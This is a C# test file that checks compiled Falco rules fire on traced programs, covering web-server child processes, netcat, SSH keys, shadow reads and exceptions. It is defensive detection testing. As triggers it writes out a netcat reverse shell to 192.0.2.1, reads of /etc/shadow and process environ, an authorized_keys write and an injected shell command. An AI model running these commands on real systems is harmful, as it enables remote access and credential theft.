// SPDX-License-Identifier: Apache-2.0
using FarQuery.Detections.Tests.Support;

namespace FarQuery.Detections.Tests;

/// <summary>Falco rule files compiled by the agent (config key <c>falco_rules</c>) firing on real traced programs: Falco's
/// stock rules that were never hand-translated into queries/, rules a user file enables, appends to and overrides,
/// exceptions, and an image-ruleset-style allow-list. Alerts carry Falco's output fields as columns. Some tests read
/// files every agent watches by default (/etc/shadow), so the class is in <see cref="WatchedFilesCollection"/>.</summary>
[Collection(WatchedFilesCollection.Name)]
public sealed class FalcoRuleDetectionTests
{
    /// <summary>Enables three sandbox rules Falco ships disabled, the way a user's local rules file does.</summary>
    private const string EnableSandboxRules = """
        - rule: Create Hidden Files or Directories
          enabled: true
        - rule: Read Shell Configuration File
          enabled: true
        - rule: Container Drift Detected (chmod)
          enabled: true
        """;

    private static Alert FiresStock(string query, Func<Scenario, string> script, Func<Alert, bool> match, Action<Scenario>? setup = null, params string[] userRules)
    {
        using var s = new Scenario();
        setup?.Invoke(s);
        if (FalcoConfig.StockFiles is not { } stock)
        {
            return new Alert("", "", new Dictionary<string, string?>());
        }

        // The sleep lets a scheduled run see the events: with about sixty compiled stock rules, the last run at the
        // app's exit (AgentRuntime.Drain, a bounded budget) is not guaranteed to reach every query on a busy machine.
        var run = s.Run(script(s) + "; sleep 1.5", FalcoConfig.Write(s, stock, userRules));
        var alerts = run.OfFalco(query);
        Assert.True(alerts.Count > 0, $"{query} raised no alert.\n{run}");
        var alert = alerts.FirstOrDefault(match);
        Assert.True(alert is not null, $"{query}: no alert matched.\n{string.Join('\n', alerts)}");
        Assert.Equal("added", alert.Action);
        Assert.False(string.IsNullOrEmpty(alert["rule"]));
        Assert.False(string.IsNullOrEmpty(alert["priority"]));
        Assert.False(string.IsNullOrEmpty(alert["output"]));
        return alert;
    }

    [Fact]
    public void WebServerSpawnedSuspiciousChildProcess_WhoamiBelowNginx_Fires()
    {
        var a = FiresStock("web_server_spawned_suspicious_child_process", _ => "./nginx -c './whoami; true'",
            a => a["proc.name"] == "whoami", s => s.Tool("nginx", "/bin/sh").Tool("whoami"));
        Assert.Equal("nginx", a["proc.pname"]);
        Assert.StartsWith("Web server spawned suspicious child process | child=whoami web_server=nginx", a["output"], StringComparison.Ordinal);
    }

    [Fact]
    public void NetworkToolExecutedDuringNpmPackageInstall_NcBelowNpm_Fires()
    {
        var a = FiresStock("network_tool_executed_during_npm_package_install", _ => "./npm -c 'sh -c \"./nc -h\"; true'",
            a => a["proc.name"] == "nc", s => s.Tool("npm", "/bin/sh").Tool("nc"));
        Assert.Equal("npm", a["proc.aname[2]"]);
    }

    [Fact]
    public void BackdooredLibraryLoadedIntoSshd_SshdReadsLiblzma_Fires()
    {
        var a = FiresStock("backdoored_library_loaded_into_sshd_cve_2024_3094", _ => "echo x > liblzma.so.5.6.1; ./sshd liblzma.so.5.6.1 >/dev/null",
            a => a["fd.name"]?.EndsWith("/liblzma.so.5.6.1", StringComparison.Ordinal) == true, s => s.Tool("sshd", "/bin/cat"));
        Assert.Equal("sshd", a["proc.name"]);
    }

    [Fact]
    public void CreateHiddenFilesOrDirectories_EnabledByUserFile_MkdirFires()
    {
        var a = FiresStock("create_hidden_files_or_directories", _ => "mkdir .stash", a => a["evt.type"] == "mkdir", null, EnableSandboxRules);
        Assert.Equal("mkdir", a["proc.name"]);
    }

    [Fact]
    public void ReadShellConfigurationFile_EnabledByUserFile_CatBashrcFires()
    {
        var a = FiresStock("read_shell_configuration_file", _ => "echo 'alias x=y' > .bashrc; cat .bashrc >/dev/null",
            a => a["proc.name"] == "cat", null, EnableSandboxRules);
        Assert.EndsWith("/.bashrc", a["fd.name"], StringComparison.Ordinal);
    }

    [Fact]
    public void ContainerDriftDetectedChmod_EnabledByUserFile_ChmodXFires()
    {
        var a = FiresStock("container_drift_detected_chmod", _ => "echo 'echo hi' > dropped; chmod 755 dropped",
            a => a["proc.name"] == "chmod", null, EnableSandboxRules);
        Assert.Contains("Drift detected (chmod)", a["output"], StringComparison.Ordinal);
    }

    [RootFact]
    public void AddingSshKeysToAuthorizedKeys_ShellWritesKey_Fires()
    {
        var a = FiresStock("adding_ssh_keys_to_authorized_keys", s => $"mkdir -p {s.System("/home/fq-" + s.Id)}/.ssh && echo 'ssh-ed25519 AAAA x' >> /home/fq-{s.Id}/.ssh/authorized_keys",
            a => a["fd.name"]?.EndsWith("/.ssh/authorized_keys", StringComparison.Ordinal) == true);
        Assert.Equal("root", a["user.name"]);
    }

    [RootFact]
    public void WriteBelowRpmDatabase_ShellWrites_Fires()
    {
        FiresStock("write_below_rpm_database", s => $"echo x > {s.System("/var/lib/rpm-fq-" + s.Id)}",
            a => a["fd.name"]?.StartsWith("/var/lib/rpm-fq-", StringComparison.Ordinal) == true);
    }

    [RootFact]
    public void UpdatePackageRepository_ShellWritesSourcesList_Fires()
    {
        FiresStock("update_package_repository", s => $"mkdir -p /etc/apt/sources.list.d && echo 'deb http://example.invalid/ x main' > {s.System("/etc/apt/sources.list.d/fq-" + s.Id + ".list")}",
            a => a["fd.name"]?.StartsWith("/etc/apt/sources.list.d/fq-", StringComparison.Ordinal) == true);
    }

    [RootFact]
    public void ContainerAccessToHostSensitivePaths_ReadBelowHostfs_Fires()
    {
        FiresStock("container_access_to_host_sensitive_paths",
            s => $"mkdir -p {(Directory.Exists("/hostfs") ? "/hostfs" : s.System("/hostfs"))} && echo x > {s.System("/hostfs/fq-" + s.Id)} && cat /hostfs/fq-{s.Id} >/dev/null",
            a => a["fd.name"]?.StartsWith("/hostfs/fq-", StringComparison.Ordinal) == true);
    }

    [RootFact]
    public void SystemUserInteractive_LoginAsDaemon_Fires()
    {
        var a = FiresStock("system_user_interactive", _ => "setpriv --reuid=daemon --regid=daemon --clear-groups ./login",
            a => a["proc.name"] == "login", s => s.Tool("login"));
        Assert.Equal("daemon", a["user.name"]);
    }

    [Fact]
    public void NetcatRemoteCodeExecution_CompiledAndHandWritten_BothFireOnTheSameExec()
    {
        // The same events through both packs: Falco's rule compiled, and queries/netcat_remote_code_execution.sql.
        using var s = new Scenario().Tool("nc");
        if (FalcoConfig.StockFiles is not { } stock)
        {
            return;
        }

        var run = s.Run("./nc -e /bin/sh 192.0.2.1 4444; sleep 1.5", FalcoConfig.Write(s, bundled: true, stock));
        var compiled = Assert.Single(run.OfFalco("netcat_remote_code_execution_in_container"));
        var hand = Assert.Single(run.Of("netcat_remote_code_execution"));
        Assert.Equal(hand["rule"], compiled["rule"]);
        Assert.Equal(hand["priority"], compiled["priority"]);
        Assert.Equal(hand["pid"], compiled["proc.pid"] ?? hand["pid"]);
        Assert.Equal("nc -e /bin/sh 192.0.2.1 4444", compiled["proc.cmdline"]);
        Assert.Equal("./nc -e /bin/sh 192.0.2.1 4444", hand["cmdline"]);
    }

    private const string Spawns = """
        - macro: spawned_process
          condition: (evt.type in (execve, execveat))
        - macro: container
          condition: (container.id != host)
        """;

    private const string WatchedRule = """
        - list: quiet_tools
          items: [true]
        - macro: watched_parent
          condition: proc.pname = httpd
        - rule: Program below a watched parent
          desc: A program other than the quiet tools started below a watched parent.
          condition: spawned_process and watched_parent and not proc.name in (quiet_tools)
          output: Program below watched parent (command=%proc.cmdline parent=%proc.pname)
          priority: NOTICE
          tags: [process, test]
        """;

    [Fact]
    public void UserFile_ListAppendAndMacroOverride_ChangeWhatFires()
    {
        const string user = """
            - list: quiet_tools
              items: [id]
              override:
                items: append
            - macro: watched_parent
              condition: proc.pname in (httpd, nginx)
              override:
                condition: replace
            """;
        const string script = "./httpd -c './id; ./whoami; true'; ./nginx -c './id; ./whoami; true'";
        string[] Fired(params string[] yaml)
        {
            using var s = new Scenario().Tool("httpd", "/bin/sh").Tool("nginx", "/bin/sh").Tool("id").Tool("whoami");
            var run = s.Run(script, FalcoConfig.Write(s, [], yaml));
            Assert.Equal(0, run.ExitCode);
            return [.. run.OfFalco("program_below_a_watched_parent").Select(a => a["proc.pname"] + ">" + a["proc.cmdline"]).Order(StringComparer.Ordinal)];
        }

        Assert.Equal(["httpd>id", "httpd>whoami"], Fired(Spawns, WatchedRule));
        Assert.Equal(["httpd>whoami", "nginx>whoami"], Fired(Spawns, WatchedRule, user));
    }

    [Fact]
    public void Exceptions_ListedValues_SuppressedExactly()
    {
        const string rule = """
            - rule: Tool started
              desc: A tool started below the shell.
              condition: spawned_process and proc.name in (id, whoami, uname, hostname)
              output: Tool started (tool=%proc.name command=%proc.cmdline)
              priority: INFO
              exceptions:
                - name: known_invocations
                  fields: [proc.name, proc.args]
                  comps: [=, startswith]
                  values:
                    - [id, -u]
                    - [uname, -r]
                - name: known_tools
                  fields: proc.name
                  values: [hostname]
            """;
        using var s = new Scenario().Tool("id").Tool("whoami").Tool("uname").Tool("hostname");
        var run = s.Run("./id -u; ./id -g; ./uname -r; ./uname -a; ./whoami; ./hostname", FalcoConfig.Write(s, [], Spawns, rule));
        var fired = run.OfFalco("tool_started").Select(a => a["proc.cmdline"]).Order(StringComparer.Ordinal);
        Assert.Equal(["id -g", "uname -a", "whoami"], fired);
    }

    [Fact]
    public void ImageRuleset_UnexpectedProcessInNginxContainer_LsFiresAllowedSilent()
    {
        // Shaped like Falco's per-image rulesets: an allow-list of the image's processes, a macro naming the image.
        // The image macro is overridden to `container` here, as a user does when the image name is not nginx's.
        const string nginx = """
            - list: nginx_allowed_processes
              items: ["nginx", "app-entrypoint.", "basename", "dirname", "grep", "nami", "node", "tini", "sh"]
            - macro: app_nginx
              condition: container and container.image contains "nginx"
            - rule: Unexpected spawned process nginx
              desc: Detect a process started in a nginx container outside of an expected set
              condition: spawned_process and not proc.name in (nginx_allowed_processes) and app_nginx
              output: Unexpected process spawned in nginx container (command=%proc.cmdline pid=%proc.pid user=%user.name image=%container.image)
              priority: NOTICE
            """;
        const string local = "- macro: app_nginx\n  condition: container\n  override:\n    condition: replace\n";
        using var s = new Scenario().Tool("nginx", "/bin/sh").Tool("grep", "/bin/grep").Tool("basename", "/usr/bin/basename");
        var run = s.Run("./nginx -c 'ls >/dev/null; ./grep -q x /dev/null; ./basename /a/b >/dev/null; true'", FalcoConfig.Write(s, [], Spawns, nginx, local));
        var a = Assert.Single(run.OfFalco("unexpected_spawned_process_nginx"));
        Assert.Equal("ls", a["proc.cmdline"]);
        Assert.StartsWith("Unexpected process spawned in nginx container (command=ls pid=", a["output"], StringComparison.Ordinal);
        Assert.Contains(" user=root image=<NA>)", a["output"], StringComparison.Ordinal);
    }

    [Fact]
    public void BadRulesFiles_AgentAndAppGoOn_GoodRulesFire()
    {
        using var s = new Scenario().Tool("id");
        var options = FalcoConfig.Write(s, [], Spawns, "- rule: [broken\n", "- rule: Id\n  desc: x\n  condition: spawned_process and proc.name = id\n  output: id ran\n  priority: INFO\n");
        Assert.Equal(0, new System.Diagnostics.ProcessStartInfo("mkfifo", Path.Join(s.Dir, "rules", "03.yaml")) is var psi && System.Diagnostics.Process.Start(psi) is { } p && p.WaitForExit(10_000) ? p.ExitCode : -1);
        var run = s.Run("./id; exit 7", options);
        Assert.Equal(7, run.ExitCode);
        Assert.Single(run.OfFalco("id"));
        // The status log names the file, line and column of the syntax error, and the FIFO it refused.
        Assert.Matches(@"rules/01\.yaml:\d+:\d+: error: YAML syntax error", run.Stdout);
        Assert.Contains("rules/03.yaml:0:0: error: cannot read the rules file: not a regular file (fifo)", run.Stdout, StringComparison.Ordinal);
    }

    // Sensitive reads under the default options (no trace_read_opens): SensitiveReads' inotify rows, syscall 'inotify'
    // (docs/tracer.md §5.2), which Falco's read macros take as openat opens (docs/falco-fields.md, "Sensitive reads").

    /// <summary>A user's file over the stock ones: the reader's pid appended to the stock rules' output, as users do to
    /// correlate, and a rule of its own on the stock open_read macro.</summary>
    private const string UserReadRules = """
        - rule: Read sensitive file untrusted
          output: pid=%proc.pid
          override:
            output: append
        - rule: Read environment variable from /proc files
          output: pid=%proc.pid
          override:
            output: append
        - rule: Read sensitive file trusted after startup
          output: pid=%proc.pid
          override:
            output: append
        - rule: Credential file read
          desc: A program read a file named like a credential store.
          condition: open_read and fd.filename in (shadow, gshadow, credentials) and not proc.name in (shell_binaries)
          output: Credential file read (file=%fd.name pid=%proc.pid command=%proc.cmdline type=%evt.type)
          priority: WARNING
        """;

    private static FarQueryRun? RunDefaultOptions(Scenario s, string script)
    {
        if (FalcoConfig.StockFiles is not { } stock)
        {
            return null;
        }

        // The sleep lets a scheduled run see the events, as in FiresStock.
        return s.Run(script + "; sleep 1.5", FalcoConfig.WriteDefaultOptions(s, stock, UserReadRules));
    }

    /// <summary>Runs <c>cat <paramref name="file"/></c> under the default options and asserts that
    /// <paramref name="query"/> fired once for cat, with its pid, name and command line; returns that alert, the pid and
    /// the run, or null without the stock files. cat closes the file within microseconds, so its descriptor is gone by
    /// the time the watcher handles the event: the row has no descriptor (docs/tracer.md §5.2, "The reader").</summary>
    private static (Alert Alert, string Pid, FarQueryRun Run)? CatFires(Scenario s, string file, string query)
    {
        // In a background job sh execs the command in the child it forks, so $! is cat's own pid.
        if (RunDefaultOptions(s, $"sleep 0.3; cat {file} >/dev/null & echo $! > cat.pid; wait; sleep 0.3") is not { } run)
        {
            return null;
        }

        var pid = File.ReadAllText(Path.Join(s.Dir, "cat.pid")).Trim();
        var alert = Assert.Single(run.OfFalco(query), a => a["proc.pid"] == pid);
        Assert.Equal(("cat", "cat " + file), (alert["proc.name"], alert["proc.cmdline"]));
        return (alert, pid, run);
    }

    [RootFact]
    public void ReadSensitiveFileUntrusted_DefaultOptionsCatShadow_StockAndUserRulesFireWithReader()
    {
        using var s = new Scenario();
        if (CatFires(s, "/etc/shadow", "read_sensitive_file_untrusted") is { } cat)
        {
            Assert.Equal(("/etc/shadow", "openat"), (cat.Alert["fd.name"], cat.Alert["evt.type"]));
            Assert.EndsWith($" pid={cat.Pid}", cat.Alert["output"], StringComparison.Ordinal);
            var user = Assert.Single(cat.Run.OfFalco("credential_file_read"), a => a["fd.name"] == "/etc/shadow");
            Assert.Equal($"Credential file read (file=/etc/shadow pid={cat.Pid} command=cat /etc/shadow type=openat)", user["output"]);
        }
    }

    [Fact]
    public void ReadEnvironmentVariableFromProcFiles_DefaultOptionsCatOwnEnviron_StockRuleFiresWithReader()
    {
        using var s = new Scenario();
        if (CatFires(s, "/proc/self/environ", "read_environment_variable_from_proc_files") is { } cat)
        {
            Assert.Equal($"/proc/{cat.Pid}/environ", cat.Alert["fd.name"]);
        }
    }

    [RootFact]
    public void ReadSensitiveFileTrustedAfterStartup_DefaultOptionsNginxReadsShadow_FiresAfterFiveSecondsNotAtStart()
    {
        // Two processes named nginx (a server_procs name; proc.name is the comm, which a link gives): one reads
        // /etc/shadow at once, the other after 6.2 s. proc_is_new is proc.duration <= 5 s, and the row time and
        // start_time are whole seconds (docs/falco-fields.md, "proc.duration"), so only a read more than 6 s after the
        // start is sure to count as "after startup". Each holds the file for a second, so the watcher finds its
        // descriptor: an old process that has already closed the file is not attributed (docs/tracer.md §5.2).
        using var s = new Scenario();
        File.WriteAllText(Path.Join(s.Dir, "reader.py"), "import sys, time\ntime.sleep(float(sys.argv[1]))\nf = open('/etc/shadow')\ntime.sleep(1)\n");
        const string script = """
            ln -s "$(python3 -c 'import sys; print(sys.executable)')" nginx
            ./nginx reader.py 0 & echo $! > early.pid
            ./nginx reader.py 6.2 & echo $! > late.pid
            wait
            """;
        if (RunDefaultOptions(s, script) is not { } run)
        {
            return;
        }

        var early = File.ReadAllText(Path.Join(s.Dir, "early.pid")).Trim();
        var late = File.ReadAllText(Path.Join(s.Dir, "late.pid")).Trim();
        var alert = Assert.Single(run.OfFalco("read_sensitive_file_trusted_after_startup"));
        Assert.Equal((late, "nginx", "nginx reader.py 6.2", "/etc/shadow"), (alert["proc.pid"], alert["proc.name"], alert["proc.cmdline"], alert["fd.name"]));
        Assert.StartsWith("Sensitive file opened for reading by trusted program after startup | file=/etc/shadow ", alert["output"], StringComparison.Ordinal);
        Assert.EndsWith($" pid={late}", alert["output"], StringComparison.Ordinal);

        // The early read is a row too (the untrusted rule, which excludes no server, fires on it), so its silence
        // here is the rule's proc_is_new, not a read that went unseen.
        Assert.Contains(run.OfFalco("read_sensitive_file_untrusted"), a => a["proc.pid"] == early);
    }

    [Fact]
    public void SensitiveReadRules_DefaultOptionsProgramsReadOrdinaryFile_RaiseNothing()
    {
        using var s = new Scenario();
        File.WriteAllText(Path.Join(s.Dir, "credentials.txt"), "not a secret\n");
        if (RunDefaultOptions(s, "sleep 0.3; cat credentials.txt >/dev/null; python3 -c 'open(\"credentials.txt\").read()'; sleep 0.3") is not { } run)
        {
            return;
        }

        foreach (var query in new[] { "read_sensitive_file_untrusted", "read_environment_variable_from_proc_files", "credential_file_read" })
        {
            Assert.True(run.OfFalco(query).Count == 0, $"{query} fired on an ordinary read.\n{run}");
        }
    }
}
